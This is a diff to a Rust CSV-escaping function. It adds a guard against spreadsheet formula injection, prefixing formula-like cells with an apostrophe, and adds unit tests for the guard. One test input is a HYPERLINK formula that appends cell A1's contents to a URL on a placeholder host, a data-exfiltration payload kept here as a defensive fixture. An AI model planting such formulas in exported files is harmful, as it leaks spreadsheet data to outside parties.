@@ -467,8 +467,21 @@ pub fn markdown_text(text: &str) -> String {
     out
 }
 
-/// A CSV field, quoted when it holds a comma, quote, line break or edge space.
+/// A CSV field, quoted when it holds a comma, quote, line break or edge space. Text that a
+/// spreadsheet would read as a formula (starting with `=`, `+`, `-`, `@`, a tab or a carriage
+/// return, and not a number) takes a leading `'`, which spreadsheets show as text: an id,
+/// reason or adapter name from a results file is never evaluated.
 pub fn csv_cell(text: &str) -> String {
+    let formula = text.starts_with(['=', '+', '-', '@', '\t', '\r'])
+        && text.trim().parse::<f64>().is_err()
+        && text != "-";
+    let guarded;
+    let text = if formula {
+        guarded = format!("'{text}");
+        guarded.as_str()
+    } else {
+        text
+    };
     let needs_quotes =
         text.contains([',', '"', '\n', '\r']) || text.starts_with(' ') || text.ends_with(' ');
     if needs_quotes {
@@ -554,6 +567,16 @@ mod tests {
     fn escaping() {
         assert_eq!(csv_cell("a,b"), "\"a,b\"");
         assert_eq!(csv_cell("say \"hi\""), "\"say \"\"hi\"\"\"");
+        // A formula from a file stays text; numbers and the empty-value dash stay as they are.
+        assert_eq!(
+            csv_cell("=HYPERLINK(\"http://x/?\"&A1,\"open\")"),
+            "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"open\"\")\""
+        );
+        assert_eq!(csv_cell("@SUM(A1)"), "'@SUM(A1)");
+        assert_eq!(csv_cell("+1+1"), "'+1+1");
+        assert_eq!(csv_cell("-1.5e-3"), "-1.5e-3");
+        assert_eq!(csv_cell("+2"), "+2");
+        assert_eq!(csv_cell("-"), "-");
         assert_eq!(csv_cell("plain"), "plain");
         assert_eq!(markdown_text("a|b\nc"), "a\\|b c");
         // Markup from a file stays text: no HTML, no link, no code span.
